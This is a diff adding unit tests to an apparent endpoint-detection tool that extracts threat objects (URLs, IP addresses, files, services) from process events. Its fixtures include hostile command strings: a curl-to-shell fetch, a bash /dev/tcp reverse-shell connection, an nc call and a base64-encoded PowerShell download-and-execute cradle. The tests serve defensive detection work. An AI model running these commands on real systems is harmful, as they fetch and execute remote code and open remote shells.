@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 from typing import Any
 
@@ -275,6 +276,14 @@ def test_of_an_event_its_target_is_shown(
     assert f": ls [1001] -> {kind} created `{text}`" in row["signal_detail"][0]
 
 
+def test_a_path_is_shown_with_both_its_quotes() -> None:
+    command = r'x "C:\My Programs\a.exe" -y'
+    (row,) = tree_rows(install(command), catalogue({"field": "process", "pattern": "Prog.{9,20}e"}))
+    assert shown(row) == r"Programs\a.exe"
+    (row,) = tree_rows(install(command), catalogue({"field": "process", "pattern": "C:.{9,20} -"}))
+    assert shown(row) == r'"C:\My Programs\a.exe" -y'
+
+
 def test_a_signal_over_several_texts_keeps_them() -> None:
     several = {"pattern": "^(?:i|host)", "min_distinct": "2"}
     (row,) = tree_rows(install("id -u", "hostname -f"), catalogue(several))
@@ -284,18 +293,83 @@ def test_a_signal_over_several_texts_keeps_them() -> None:
     assert shown(row) == "1"
 
 
-def test_threats_are_programs_urls_addresses_and_files() -> None:
-    events = install("sh -c 'curl https://e.example/a.sh'")
-    events.append({"process_id": 1001, "dest": "host1", "file_path": "/etc/cron.d/x",
-                   "action": "created", "_time": START + 1})  # fmt: skip
-    written = {"kind": "file", "field": "file_path", "pattern": "/cron"}
-    (row,) = tree_rows(events, catalogue({}, written))
-    assert list(zip(row["threat_object_type"], row["threat_object"])) == [
-        ("process_name", "sh"),
-        ("url", "https://e.example/a.sh"),
-        ("file_path", "/etc/cron.d/x"),
+def threats(events: list[dict[str, Any]], *changes: dict[str, str]) -> list[tuple[str, str]]:
+    (row,) = tree_rows(events, catalogue(*changes))
+    return list(zip(row["threat_object_type"], row["threat_object"]))
+
+
+ANY = {"field": "process", "pattern": ".", "scope": "child"}
+
+
+def test_threats_come_by_kind_and_programs_that_every_host_has_do_not() -> None:
+    caused = [
+        {"registry_path": KEY},
+        {"service_name": "a", "service_path": "/tmp/b -d"},
+        {"file_path": "/etc/cron.d/x"},
+        {"dest_ip": "203.0.113.9", "dest_port": "443"},
+        {"dest_ip": "127.0.0.1", "dest_port": "443"},
     ]
-    assert row["signal_detail"][1].endswith(": sh [1001] -> file created `/etc/cron.d/x`")
+    events = install("evil -x", "sh -c 'curl https://e.example/a.sh; id'", process_path="/tmp/dpkg")
+    events[1]["process_path"] = "/tmp/evil"
+    events[2]["process_path"] = "/bin/sh"
+    own = {"process_id": 1002, "dest": "host1", "_time": START + 2, "action": "created"}
+    events += [{**own, **event} for event in caused]
+    fields = {"file": "file_path", "network": "dest_ip", "registry": "registry_path"}
+    fields["service"] = "service_name"
+    on_events = [{"kind": k, "field": f, "pattern": "."} for k, f in fields.items()]
+    assert threats(events, {**ANY, "weight": "90"}, *on_events) == [
+        ("url", "https://e.example/a.sh"),
+        ("ip_address", "203.0.113.9"),
+        ("file_path", "/tmp/evil"),
+        ("file_path", "/etc/cron.d/x"),
+        ("registry_path", KEY),
+        ("service", "/tmp/b -d"),
+        ("file_name", "a.deb"),
+        ("process_name", "evil"),
+    ]
+
+
+@pytest.mark.parametrize("name", ["sh", "cmd.exe", "PowerShell.EXE", "python3.12", "net1.exe"])
+def test_a_program_that_every_host_has_is_named_where_there_is_nothing_else(name: str) -> None:
+    alone = install("x", process="dpkg -i")
+    alone[1].update(process_name=name, process=name)
+    assert threats(alone, ANY) == [("process_name", name)]
+    alone[1]["process_path"] = "/tmp/" + name
+    assert threats(alone, ANY) == [("file_path", "/tmp/" + name)]
+
+
+@pytest.mark.parametrize(
+    ("package", "threat"),
+    [
+        ("/pkgs/a.deb", ("file_name", "a.deb")),
+        ("https://e.example/a.deb", ("url", "https://e.example/a.deb")),
+        ("nginx", ("process_name", "sh")),
+    ],
+)
+def test_a_package_file_is_named_under_its_install(package: str, threat: tuple[str, str]) -> None:
+    events = install("sh", process=f"dpkg -i {package}", process_name="dpkg")
+    assert threats(events, ANY) == [threat]
+
+
+@pytest.mark.parametrize(
+    ("command", "addresses"),
+    [
+        ("bash -c 'exec 3<>/dev/tcp/203.0.113.2/8088'", ["203.0.113.2"]),
+        ("nc 203.0.113.2:80 127.0.0.1:81 1.2.3.4 999.1.1.1:2", ["203.0.113.2"]),
+        ("ip route add 192.0.2.0/24", []),
+    ],
+)
+def test_addresses_are_read_from_commands(command: str, addresses: list[str]) -> None:
+    found = threats(install(command), ANY)
+    assert [value for kind, value in found if kind == "ip_address"] == addresses
+
+
+def test_urls_are_read_from_what_matched_outside_the_command() -> None:
+    script = "IEX (irm http://192.0.2.44/u.ps1)"
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    signal = {**ANY, "field": "process_decoded", "pattern": r"irm \S"}
+    found = threats(install(f"powershell -enc {encoded}"), signal)
+    assert found[0] == ("url", "http://192.0.2.44/u.ps1")
 
 
 def test_the_id_of_a_tree_does_not_depend_on_what_else_was_searched() -> None:
